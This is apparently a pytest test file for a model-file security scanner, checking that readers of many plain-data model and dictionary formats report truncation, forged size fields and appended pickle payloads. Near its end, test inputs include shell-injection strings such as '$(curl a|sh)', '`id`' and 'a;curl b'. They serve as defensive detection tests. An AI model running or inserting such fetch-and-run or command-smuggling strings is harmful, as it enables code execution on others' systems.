"""Models and dictionaries that are plain data: every byte belongs to a part, and no changed size passes."""

from __future__ import annotations

import struct

import pytest
from builders.payloads import EVAL_ONE
from builders.plain_dictionaries import SAMPLES as DICTIONARIES
from builders.plain_dictionaries import build_lexemes
from builders.plain_language_models import SAMPLES as LANGUAGE_MODELS
from builders.plain_language_models import build_trie
from builders.plain_models import SAMPLES as MODELS
from builders.plain_speech import SAMPLES as SPEECH
from builders.plain_speech import build_labeller, build_voice
from builders.plain_tables import SAMPLES as TABLES
from builders.plain_tables import build_index, build_lemmagen
from hypothesis import given, settings
from hypothesis import strategies as st

from modelaudit.model.outline import Outline
from modelaudit.model.structure import UnreadReason

SAMPLES = {**MODELS, **DICTIONARIES, **TABLES, **LANGUAGE_MODELS, **SPEECH}
FORMATS = (
    "blingfire",
    "crfsuite",
    "ctranslate2",
    "dawg",
    "dlib",
    "espeak",
    "faiss",
    "fasttext",
    "frontcode",
    "hadith",
    "htsvoice",
    "lemmagen",
    "lexemes",
    "marisa",
    "mecab",
    "navec",
    "openfst",
    "simstring",
    "sphinx",
    "sudachi",
    "thulac",
    "treelite",
    "usearch",
    "wapiti",
    "word2vec",
    "zemberek",
)
# Too little of their bytes shows what they are.
KNOWN_BY_NAME = ("lexemes.bin", "matrix.bin", "paradigms.array", "phontab")
PATHS = sorted(SAMPLES)
AGREEING = {
    "espeak/phontab": "a row may move from one table of phonemes to the next",
    "faiss/index.faiss": "fewer and longer vectors take as many bytes",
    "faiss/lists.faiss": "a vector may move from one list to the next",
    "mecab/matrix.bin": "a matrix of other sides takes as many bytes",
    "htsvoice/voice.htsvoice": "a leaf may move from one tree to the next",
    "thulac/model.bin": "other numbers of labels and features take as many bytes",
    "usearch/index.usearch": "more neighbours on one level and fewer on another take as many bytes",
    "word2vec/double.bin": "fewer and longer vectors take as many bytes",
    "word2vec/no-line-ends.bin": "fewer and longer vectors take as many bytes",
    "word2vec/vectors.bin": "fewer and longer vectors take as many bytes",
    "zemberek/pairs.slm": "a value may move from one table to the next",
    "zemberek/words.slm": "longer n-grams and fewer values take as many bytes",
}
"""Files in which two changed sizes may agree again, as in another whole file."""
SIZED_PATHS = [path for path in PATHS if SAMPLES[path].sizes]


def test_each_format_of_plain_data_has_a_sample():
    assert {path.partition("/")[0] for path in SAMPLES} == set(FORMATS)
    # Its records have no count.
    assert set(PATHS) - set(SIZED_PATHS) == {"lexemes/lexemes.bin", "wapiti/model.wap"}  # these are in text


def has_fault(reading) -> bool:
    """Whether the reading reports a defect or an absence, such as bytes that no reader knows."""
    assert reading.unread is not None  # fails if a reader raised an unexpected error
    return bool(reading.inner.unread or reading.kinds())


@pytest.mark.parametrize("path", PATHS)
def test_file_of_plain_data_is_recognised_by_its_bytes_and_read_to_its_end(path, read_bytes):
    data, own_name = bytes(SAMPLES[path].data), path.rpartition("/")[2]
    for name in {own_name, own_name if own_name in KNOWN_BY_NAME else "data.bin"}:
        reading = read_bytes(data, name)
        assert reading.formats[name] == [path.partition("/")[0]]
        assert not has_fault(reading), reading.details
        assert len(reading.of(Outline)) == 1


@pytest.mark.parametrize("path", PATHS)
def test_every_cut_and_every_appended_byte_of_plain_data_is_reported(path, read_bytes):
    data, name = bytes(SAMPLES[path].data), path.rpartition("/")[2]
    # The start alone of some magic numbers is text.
    start = min(40, len(data) // 2)
    for end in {*range(start, min(len(data), 120)), *range(start, len(data), max(97, len(data) // 200)), len(data) - 1}:
        assert has_fault(read_bytes(data[:end], name)), end
    for tail in (b"\0", bytes(4), bytes(4096), b"\xff", b"text", data):
        assert has_fault(read_bytes(data + tail, name)), tail[:9]


@pytest.mark.parametrize("path", SIZED_PATHS)
def test_every_stated_size_of_plain_data_is_compared_with_the_bytes(path, read_bytes):
    file, name = SAMPLES[path], path.rpartition("/")[2]
    for offset, length in file.sizes:
        old = int.from_bytes(file.data[offset : offset + length], "little")
        for new in (old + 1, old - 1, 0, 1 << (8 * length - 1), (1 << 8 * length) - 1, old ^ (1 << 8 * length - 2)):
            wrapped = new % (1 << 8 * length)
            if wrapped != old:
                data = bytearray(file.data)
                data[offset : offset + length] = wrapped.to_bytes(length, "little")
                assert has_fault(read_bytes(bytes(data), name)), (offset, length, old, wrapped)


@settings(max_examples=300, deadline=None)
@given(st.data())
def test_changed_sizes_cuts_and_appended_bytes_of_plain_data_are_never_silent(read_bytes, data):
    path = data.draw(st.sampled_from(SIZED_PATHS))
    file = bytearray(SAMPLES[path].data)
    most = 1 if path in AGREEING else 3
    for offset, length in data.draw(st.lists(st.sampled_from(SAMPLES[path].sizes), max_size=most, unique=True)):
        file[offset : offset + length] = data.draw(st.binary(min_size=length, max_size=length))
    if data.draw(st.booleans()):
        file = file[: data.draw(st.integers(min(40, len(file) // 2), len(file)))]
    else:
        file += data.draw(st.one_of(st.just(b""), st.binary(max_size=9), st.integers(1, 99).map(bytes)))
    is_same = bytes(file) == bytes(SAMPLES[path].data)
    assert has_fault(read_bytes(bytes(file), path.rpartition("/")[2])) is not is_same


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_mutated_plain_data_never_crashes_a_reader(read_bytes, data):
    path = data.draw(st.sampled_from(PATHS))
    file = bytearray(SAMPLES[path].data)
    for _ in range(data.draw(st.integers(1, 6))):
        file[data.draw(st.integers(0, len(file) - 1))] = data.draw(st.integers(0, 255))
    assert read_bytes(bytes(file), path.rpartition("/")[2]).unread is not None


def test_words_of_spacy_differ_and_have_one_language(read_bytes):
    several = bytes(build_lexemes(1, 2, 3).data)
    assert not has_fault(read_bytes(several, "vocab/lexemes.bin"))
    assert has_fault(read_bytes(several + several[:96], "vocab/lexemes.bin"))
    assert has_fault(read_bytes(several + bytes(96), "vocab/lexemes.bin"))


@pytest.mark.parametrize("offset", range(16, 160))
def test_every_changed_bit_of_an_automaton_contradicts_its_checksum(offset, read_bytes):
    data = bytearray(SAMPLES["blingfire/tokens.bin"].data)
    data[offset] ^= 1
    assert has_fault(read_bytes(bytes(data), "tokens.bin"))


@pytest.mark.parametrize(
    "forged",
    [
        # A rule's position leads to a node, none leads to the leaf, one leads to nothing; a kind, and the size of a text.
        build_lemmagen().forge(5, "I", 16),
        build_lemmagen().forge(11, "I", 0),
        build_lemmagen().forge(16, "I", 2**31),
        build_lemmagen().forge(20, "B", 7),
        build_lemmagen().forge(32, "B", 2),
    ],
)
def test_each_position_in_a_tree_of_rules_leads_to_a_node(forged, read_bytes):
    assert has_fault(read_bytes(forged, "en.bin"))


def test_rows_of_an_index_lead_to_each_record_once_and_from_its_own_table(read_bytes):
    keys = {b"hea": 0x1207, b"art": 0x3307}
    assert not has_fault(read_bytes(bytes(build_index(keys).data), "a.cdb"))
    same_twice = bytearray(build_index(keys).data)
    same_twice[-12:-8] = same_twice[-28:-24]
    of_another_table = bytearray(build_index(keys).data)
    of_another_table[-16] ^= 1
    assert has_fault(read_bytes(bytes(same_twice), "a.cdb"))
    assert has_fault(read_bytes(bytes(of_another_table), "a.cdb"))


@pytest.mark.parametrize("path", PATHS)
def test_pickle_behind_plain_data_is_read(path, read_bytes):
    assert read_bytes(bytes(SAMPLES[path].data) + EVAL_ONE, path.rpartition("/")[2]).evaluates


def test_packed_ngrams_of_every_order_are_counted(read_bytes):
    data = bytes(build_trie(5, 9, 12).data)
    assert not has_fault(read_bytes(data, "model.lm.bin"))
    assert read_bytes(data + EVAL_ONE, "model.lm.bin").evaluates
    for offset in (20, 24, 28):  # the number of n-grams of each order
        forged = bytearray(data)
        forged[offset] += 1
        assert has_fault(read_bytes(bytes(forged), "model.lm.bin"))
    assert has_fault(read_bytes(data[:32] + b"\2" + data[33:], "model.lm.bin"))  # numbers of another kind


def build_characters(pairs: int = 80) -> bytes:
    """Return a table of THULAC with traditional and simplified characters."""
    return struct.pack(f"<{2 * pairs}I", *range(0x4E00, 0x4E00 + 2 * pairs))


def build_item(lemma: str, *further: bytes) -> bytes:
    """Return an item of the lexicon of Zemberek."""
    text = lemma.encode()
    fields = b"\x0a" + bytes([len(text)]) + text + b"".join(further or (b"\x28\x02\x30\x05\x3a\x02\x01\x1b",))
    length = bytes([len(fields)]) if len(fields) < 128 else bytes([len(fields) & 127 | 128, len(fields) >> 7])
    return b"2" + length + fields


ITEMS = [build_item(f"s\u00f6z{number}") for number in range(9)]
ITEMS.append(build_item("x" * 90, b"\x12\x03abc\x1a\x50" + b"y" * 80 + b"\x22\x01z\x28\x06\x40\x02"))


def test_tables_of_characters_and_lexicons_are_read_to_their_end(read_bytes):
    for data, name, format_ in (
        (build_characters(), "t2s.dat", "thulac"),
        (b"".join(ITEMS), "lexicon.bin", "zemberek"),
    ):
        reading = read_bytes(data, name)
        assert reading.formats[name] == [format_]
        assert not has_fault(reading)
        assert len(reading.of(Outline)) == 1


@given(st.integers(0, 159), st.integers(0, 0x33FF) | st.integers(0xA000, 0xFFFFFFFF), st.binary(min_size=1, max_size=7))
def test_number_that_is_no_ideograph_and_half_a_pair_are_reported(read_bytes, place, number, tail):
    data = build_characters()
    assert has_fault(read_bytes(data + tail, "t2s.dat"))
    assert has_fault(read_bytes(data[: -len(tail)], "t2s.dat"))
    forged = bytearray(data)
    struct.pack_into("<I", forged, 4 * place, number)
    assert has_fault(read_bytes(bytes(forged), "t2s.dat"))
    assert read_bytes(data + EVAL_ONE, "t2s.dat").evaluates


def test_every_cut_and_appended_byte_and_length_of_a_lexicon_is_reported(read_bytes):
    data = b"".join(ITEMS)
    ends = {sum(map(len, ITEMS[:count])) for count in range(len(ITEMS) + 1)}
    for end in range(3, len(data)):  # the start alone is text
        assert end in ends or has_fault(read_bytes(data[:end], "lexicon.bin")), end
    for tail in (b"\0", b"2", b"2\0", b"text", bytes(64), b"\xff" * 9):
        assert has_fault(read_bytes(data + tail, "lexicon.bin")), tail
    for start in ends - {len(data)}:
        for old in (data[start + 1], data[start + 3]):
            place = start + 1 if old == data[start + 1] else start + 3
            for new in {0, old - 1, old + 1, 127, 128, 255} - {old}:
                assert has_fault(read_bytes(data[:place] + bytes([new]) + data[place + 1 :], "lexicon.bin")), place
    assert read_bytes(data + EVAL_ONE, "lexicon.bin").evaluates


@pytest.mark.parametrize(
    "item",
    [
        build_item("a\nb"),
        build_item("a", b"\x28\x02\x28\x02"),
        build_item("a", b"\x30\x02"),
        build_item("a", b"\x28\xff\x01"),
        build_item("a", b"\x28\x02\x3a\x01\x80"),
        build_item("a", b"\x28\x02\x4a\x01b"),
        build_item("a", b"\x12\x01\xff\x28\x02"),
        b"2\x04\x28\x02\x30\x01",
        b"2\x80\x80\x01",
    ],
)
def test_item_of_another_form_is_no_part_of_a_lexicon(item, read_bytes):
    assert has_fault(read_bytes(b"".join(ITEMS) + item, "lexicon.bin"))
    assert has_fault(read_bytes(item + b"".join(ITEMS), "lexicon.bin"))


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"-1 C-Mora<=2", b"-1 C\0Mora<=2"),
        (b"{*}[3]", b"{*}[x]"),
        (b'"*-i+*"', b'"*-i\n*"'),
        (b"1 1.0\n", b"1 x.0\n"),
        (b"0-51", b"0-50"),
        (b"STREAM_WIN", b"STREAM_BIN"),
        (b"COMMENT:", b"COMMENT "),
        (b"COMMENT:", b"STREAM_:"),
        (b"NUM_STATES:2", b"NUM_STATES:3"),
        (b"VECTOR_LENGTH[MCP]:2", b"VECTOR_LENGTH[MCP]:3"),
        (b"[STREAM]\n", b"[STREXX]\n"),
        (b"COMMENT:\n", b"IS_MSD[MCP]:0\n"),
    ],
)
def test_part_of_a_voice_in_another_form_is_reported(old, new, read_bytes):
    data = bytes(build_voice().data)
    assert old in data
    assert has_fault(read_bytes(data.replace(old, new, 1), "a.htsvoice")) is (new != b"STREAM_:")


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (b"#mdl#2#2", b"#mdl#2#1"),
        (b"#mdl#2#2", b"#mdl#2#3"),
        (b"#mdl#2#2", b"#mdl#7#2"),
        (b"#rdr#1/", b"#rdr#2/"),
        (b"#qrk#2", b"#qrk#1"),
        (b"#qrk#3", b"#qrk#4"),
        (b"#qrk#3", b"#qrk#999999999999"),
        (b"4:NOUN,", b"5:NOUN,"),
        (b"4:NOUN,", b"4:NO\0N,"),
        (b"4:NOUN,", b"4:NOUN;"),
        (b"\n2=", b"\n0="),
        (b"2=-0x1", b"2=-0x2"),
        (b"p-5\n", b"p-5 \n"),
    ],
)
def test_changed_count_length_and_number_of_a_labeller_is_reported(old, new, read_bytes):
    data = bytes(build_labeller().data)
    assert old in data
    assert has_fault(read_bytes(data.replace(old, new, 1), "model"))


@settings(max_examples=25, deadline=None)
@given(st.lists(st.binary(max_size=9).filter(lambda text: not any(byte < 32 for byte in text)), min_size=1, max_size=6))
def test_every_text_of_a_labeller_has_its_length(read_bytes, features):
    data = bytes(build_labeller(*features).data)
    assert not has_fault(read_bytes(data, "model.wap"))
    for end in range(6, len(data)):
        assert has_fault(read_bytes(data[:end], "model.wap"))


def write_labeller(command: bytes) -> bytes:
    """Return a model of Wapiti with a label."""
    return bytes(build_labeller().data).replace(b"4:NOUN,", b"%d:%s," % (len(command), command))


def write_lexicon(command: bytes) -> bytes:
    """Return a lexicon of Zemberek with a lemma; a line ends before each."""
    item = b"\n" + bytes([len(command)]) + command + b"\x28\x01"
    return 12 * (b"2" + bytes([len(item)]) + item)


@pytest.mark.parametrize("command", [b"$(curl a|sh)", b"`id`", b'system("id")#', b"a;curl b"])
@pytest.mark.parametrize(("name", "is_open"), [("configure", True), ("model.nu", True), ("model.wap", False)])
@pytest.mark.parametrize("write", [write_labeller, write_lexicon])
def test_commands_in_data_of_lines_leave_an_absence_under_a_name_that_may_be_run(
    read_bytes, write, command: bytes, name: str, is_open: bool
) -> None:
    """Each of these names lets a shell or an interpreter run the file, which passes over what it does not know."""
    assert [reason for _, reason in read_bytes(write(command), name).unread] == [UnreadReason.PROGRAM] * is_open
    for lemma in (b"kitap", "u\u011frun".encode(), b"run"):
        assert not read_bytes(write(lemma), name).unread


@pytest.mark.parametrize(("name", "is_open"), [("run", True), ("voice.htsvoice", False)])
def test_commands_in_the_head_of_a_voice_leave_an_absence_under_a_name_that_may_be_run(
    read_bytes, name: str, is_open: bool
) -> None:
    content = bytes(build_voice().data).replace(b"COMMENT:", b"COMMENT:$(curl a|sh)")
    assert [reason for _, reason in read_bytes(content, name).unread] == [UnreadReason.PROGRAM] * is_open
